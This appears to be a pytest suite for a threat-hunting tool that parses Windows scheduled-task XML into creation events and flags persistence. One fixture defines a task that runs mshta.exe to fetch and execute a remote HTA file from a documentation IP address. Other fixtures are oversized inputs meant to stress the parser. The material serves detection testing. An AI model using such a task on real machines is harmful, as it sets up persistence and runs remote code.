"""Scheduled tasks as Windows keeps them."""

from __future__ import annotations

import io
import json

import pytest

from tocsin.cli import main
from tocsin.formats import recognise, task_definition
from tocsin.formats.syntax.event_record import event_of
from tocsin.formats.syntax.log_rows import LogFault, LogRecord
from tocsin.formats.task_definition import SIZE_LIMIT

TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.3" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2025-03-01T22:14:09.113</Date>
    <Author>CONTOSO\\anna</Author>
    <URI>\\Microsoft\\Windows\\Cache&amp;more</URI>
  </RegistrationInfo>
  <Actions Context="Author"><Exec>
    <Command>{command}</Command><Arguments>{arguments}</Arguments>
  </Exec></Actions>
</Task>
"""
SHELL = TASK.format(
    command="C:\\Windows\\System32\\mshta.exe", arguments="http://203.0.113.12/w.hta"
)
ORDINARY = TASK.format(command="%windir%\\system32\\sc.exe", arguments="start w32time task_started")
CODINGS = ("utf-16", "utf-8", "utf-8-sig")


@pytest.mark.parametrize("coding", CODINGS)
def test_a_task_is_the_event_of_its_making(coding: str) -> None:
    data = SHELL.encode(coding)
    form = recognise(data[:8192])
    assert form is not None
    assert form.name == "task-definition"
    (record,) = form.log.records(io.BytesIO(data))
    assert isinstance(record, LogRecord)
    event = form.log.event(record.text)
    assert event.fields["EventID"] == "4698"
    assert event.fields["TaskName"] == "\\Microsoft\\Windows\\Cache&more"
    assert event.fields["SubjectUserName"] == "anna"
    assert "w.hta" in event.fields["TaskContent"]
    assert f"{event.when:%Y-%m-%d %H:%M}" == "2025-03-01 22:14"


@pytest.mark.parametrize(
    "text",
    [
        "<Task><Actions/></Task>",
        '<Tasks xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"/>',
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>" + SHELL,
    ],
)
def test_other_documents_are_none(text: str) -> None:
    form = recognise(text.encode()[:8192])
    assert form is None or form.name != "task-definition"


def test_a_damaged_or_huge_one_is_read_as_far_as_it_goes() -> None:
    cut = SHELL[: SHELL.index("</Actions>")].encode()
    form = recognise(cut[:8192])
    fault, record = form.log.records(io.BytesIO(cut))
    assert isinstance(fault, LogFault)
    assert fault.position == record.position == "task 1"
    assert "w.hta" in form.log.event(record.text).fields["TaskContent"]
    long = SHELL.replace("</Task>", "x" * SIZE_LIMIT).encode()
    fault, record = form.log.records(io.BytesIO(long))
    assert isinstance(fault, LogFault)
    assert "w.hta" in form.log.event(record.text).fields["TaskContent"]


BARE = SHELL[SHELL.index("<Task ") :].replace(
    "    <URI>\\Microsoft\\Windows\\Cache&amp;more</URI>\n", ""
)
PROLOG = SHELL[: SHELL.index("<Task ")]
SEVERAL = {
    "one": f"<?xml version='1.0'?>\n<Tasks>\n\n<!-- \\Old -->\n{BARE}\n<!-- \\New one -->\n{BARE}\n{ORDINARY}</Tasks>",
    "each": f"<!-- \\Old -->\n{PROLOG}{BARE}\n\n<!-- \\New one -->\n{PROLOG}{BARE}\n{ORDINARY}",
    "not-ended": f"<!-- \\Old -->\n{BARE.replace('</Task>', '')}<!-- \\New one -->\n{BARE}{ORDINARY}",
}


@pytest.mark.parametrize("coding", ["utf-16", "utf-8"])
@pytest.mark.parametrize("form", SEVERAL)
def test_several_tasks_are_records_of_their_own(form: str, coding: str) -> None:
    """schtasks /query /xml, and with ONE: a comment with the path before each."""
    told = _read(SEVERAL[form].encode(coding))
    found = [each for each in told if isinstance(each, LogRecord)]
    faults = [each.position for each in told if isinstance(each, LogFault)]
    assert faults == (["task 1"] if form == "not-ended" else [])
    assert [each.position for each in found] == ["task 1", "task 2", "task 3"]
    fields = [event_of(each.text).fields for each in found]
    assert [each["TaskName"] for each in fields] == [
        "\\Old",
        "\\New one",
        "\\Microsoft\\Windows\\Cache&more",
    ]
    assert ["w.hta" in each["TaskContent"] for each in fields] == [True, True, False]


def test_a_task_is_found_wherever_the_pieces_of_the_file_end() -> None:
    whole = [event_of(each.text) for each in _read(SEVERAL["one"].encode())]
    for size in (1, 2, 5, 6, 7, 100):
        pieces = [SEVERAL["one"][at : at + size] for at in range(0, len(SEVERAL["one"]), size)]
        texts = [first for first, _, _ in task_definition._stretches(pieces)][1:]
        assert len(texts) == len(whole)
        assert all(each.startswith("<Task ") for each in texts)


def test_an_end_in_a_comment_hides_nothing() -> None:
    (record,) = _read(SHELL.replace("<Actions", "<!-- </Task> --><Actions").encode())
    assert "w.hta" in event_of(record.text).fields["TaskContent"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<URI>" + " " * 200_000,
        "<RegistrationInfo " * 10_000,
        "<!-- " * 40_000,
        "<URI" + " " * 200_000,
        "</Task" * 30_000,
    ],
)
def test_hostile_definitions_are_read(hostile: str) -> None:
    (record,) = _read(SHELL.replace("<RegistrationInfo>", "<RegistrationInfo>" + hostile).encode())
    fields = event_of(record.text).fields
    assert fields["EventID"] == "4698"
    assert fields["SubjectUserName"] == "anna"


def _read(data: bytes) -> list[LogRecord | LogFault]:
    form = recognise(data[:8192])
    assert form is not None
    assert form.name == "task-definition"
    return list(form.log.records(io.BytesIO(data)))


def test_the_hunt_tells_the_bad_one_alone(tmp_path) -> None:
    folder = tmp_path / "Tasks"
    folder.mkdir()
    (folder / "Cachetask").write_text(SHELL, "utf-16")
    (folder / "SynchronizeTime").write_text(ORDINARY, "utf-16")
    main(["hunt", str(folder), "-q", "--fail-on", "none", "-o", str(tmp_path / "out")])
    run = json.loads((tmp_path / "out" / "run.json").read_text("utf-8"))
    told = [
        (each["step"], cited["source"].rpartition("/")[2])
        for each in run["hunt"]["findings"]
        if each["level"] != "informational"
        for cited in each["events"]
    ]
    assert told == [("persistence", "Cachetask")]
